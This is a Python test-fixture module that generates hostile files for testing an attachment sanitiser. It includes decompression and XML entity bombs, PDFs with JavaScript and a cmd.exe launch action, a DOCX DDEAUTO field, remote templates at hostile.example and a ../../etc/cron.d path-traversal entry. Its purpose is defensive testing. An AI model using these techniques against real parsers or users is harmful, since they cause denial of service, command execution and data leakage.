"""Hostile files, made on the spot: each a trick that has worked somewhere."""

import io
import zipfile
import zlib
from functools import cache

import pikepdf
from PIL import Image

from tests.innovations.attachments.files import (
    docx,
    exif,
    odt,
    pdf,
    picture,
    png,
    png_chunk,
    relationships,
    xlsx,
    zipped,
)

MARK = b"hostile-mark"  # stands in every script, so that one that got through would be found
SCRIPT = b"<script>document.title='" + MARK + b"'</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def svg_with_script() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + MARK + b"</script></svg>"


def html() -> bytes:
    return b"<!DOCTYPE html><html>" + SCRIPT + b"</html>"


def jpeg_and_zip() -> bytes:
    """A picture to one program, an archive (or a Java applet) to another."""
    return picture() + zipped({"evil.class": MARK})


def jpeg_and_html() -> bytes:
    return picture(comment=SCRIPT) + html()


@cache
def png_with_text_bomb() -> bytes:
    """500 MB of text, packed."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"a" * 10_000_000) for _ in range(50)) + packer.flush()
    return png(20, 20, chunks=png_chunk(b"zTXt", b"Comment\0\0" + packed), rows=bytes(20 * 61))


def png_with_profile_bomb() -> bytes:
    packed = zlib.compress(b"a" * 100_000_000, 9)
    return png(20, 20, chunks=png_chunk(b"iCCP", b"icc\0\0" + packed), rows=bytes(20 * 61))


def png_of_2500_million_pixels() -> bytes:
    return png(50_000, 50_000, rows=b"\0" * 1_000)


@cache
def png_just_within_limits() -> bytes:
    """24 million pixels in 24 KB: the most that a picture may unpack to."""
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(b"\0" * 12_001 * 1_000) for _ in range(6)) + packer.flush()
    header = (4_000).to_bytes(4, "big") + (5_990).to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", rows)
        + png_chunk(b"IEND", b"")
    )  # fmt: skip


def webp_of_250_million_pixels() -> bytes:
    canvas = bytes([2, 0, 0, 0]) + (16_382).to_bytes(3, "little") + (16_382).to_bytes(3, "little")
    frames = b"VP8X" + len(canvas).to_bytes(4, "little") + canvas
    return b"RIFF" + (len(frames) + 4).to_bytes(4, "little") + b"WEBP" + frames


@cache
def webp_of_many_frames() -> bytes:
    first, *others = [
        Image.new("RGB", (3_000, 3_000), (shade, 0, 0)) for shade in range(0, 240, 40)
    ]
    out = io.BytesIO()
    first.save(out, "WEBP", save_all=True, append_images=others, method=0)
    return out.getvalue()


def jpeg_with_position() -> bytes:
    return picture(exif=exif(6, artist=SCRIPT.decode(), with_position=True), comment=SCRIPT)


def _pdf_with(**entries) -> bytes:
    def change(document):
        for name, value in entries.items():
            document.Root[f"/{name}"] = document.make_indirect(value)

    return pdf(change)


def pdf_with_script() -> bytes:
    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    return _pdf_with(OpenAction=action)


def pdf_with_launch() -> bytes:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    return _pdf_with(OpenAction=pikepdf.Dictionary(S=pikepdf.Name.GoTo, Next=action))


def pdf_with_program() -> bytes:
    def change(document):
        document.attachments["invoice.exe"] = b"MZ" + MARK

    return pdf(change)


def pdf_with_packed_script() -> bytes:
    """The script is in a packed stream of objects, where a search of the bytes finds nothing."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf_with_script())) as document:
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    content = out.getvalue()
    assert b"JavaScript" not in content
    return content


@cache
def pdf_with_object_bomb() -> bytes:
    """400,000 objects that each lead to the next, in a file of 2 MB."""
    with pikepdf.new() as document:
        document.add_blank_page()
        last = document.make_indirect(pikepdf.Dictionary())
        for _ in range(400_000):
            last = document.make_indirect(pikepdf.Dictionary(A=last))
        document.Root.Bomb = last
        out = io.BytesIO()
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


@cache
def xlsx_bomb() -> bytes:
    """600 MB in 600 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(600):
                sheet.write(b" " * 1_000_000)
    return out.getvalue()


@cache
def xlsx_that_lies() -> bytes:
    """Says that its 60 MB are 600 bytes."""
    size = 60_000_000
    content = xlsx(**{"xl/worksheets/sheet2.xml": b" " * size})
    return content.replace(size.to_bytes(4, "little"), (600).to_bytes(4, "little"))


def xlsx_of_a_million_entries() -> bytes:
    """Only its table of contents: 46 bytes and a name for each, in a ZIP64."""
    entry = b"PK\x01\x02\x14\0\x14\0" + bytes(20) + (8).to_bytes(2, "little") + bytes(16) + b"a%07d"
    count = 180_000
    directory = b"".join(entry % number for number in range(count))
    start = b"PK\x03\x04" + bytes(26)
    end = (
        b"PK\x05\x06" + bytes(4) + b"\xff\xff\xff\xff" + len(directory).to_bytes(4, "little")
        + len(start).to_bytes(4, "little") + b"\0\0"
    )  # fmt: skip
    return start + directory + end


def xlsx_of_words() -> bytes:
    """XML that unfolds itself ("billion laughs")."""
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    text = f'<!DOCTYPE x [<!ENTITY a0 "ha">{entities}]><sst>&a11;</sst>'
    return xlsx(**{"xl/sharedStrings.xml": text})


def xlsx_linked() -> bytes:
    return xlsx(**{"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink/></externalLink>"})


def docx_with_macro() -> bytes:
    return docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + MARK})


def docx_with_template() -> bytes:
    target = "https://hostile.example/t.dotm"
    rels = relationships(("attachedTemplate", target, "External"))
    return docx(**{"word/_rels/settings.xml.rels": rels})


def docx_with_remote_picture() -> bytes:
    rels = relationships(("image", "\\\\hostile.example\\share\\x.png", "External"))
    return docx(**{"word/_rels/document.xml.rels": rels})


def docx_with_dde() -> bytes:
    """The name of the field is spread over two runs, as attackers do."""
    runs = [
        f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (" DDEA", "UTO c:\\\\cmd.exe")
    ]
    return docx(f"<w:p>{''.join(runs)}</w:p>")


def docx_with_program() -> bytes:
    return docx(**{"word/embeddings/oleObject1.bin": b"MZ" + MARK})


def docx_out_of_its_folder() -> bytes:
    return docx(**{"../../etc/cron.d/x": MARK})


def odt_with_macro() -> bytes:
    return odt('<script:event-listener script:language="ooo:script" script:event-name="dom:load"/>')


def odt_with_remote_picture() -> bytes:
    return odt('<draw:image xlink:href="https://hostile.example/x.png"/>')


def old_word() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
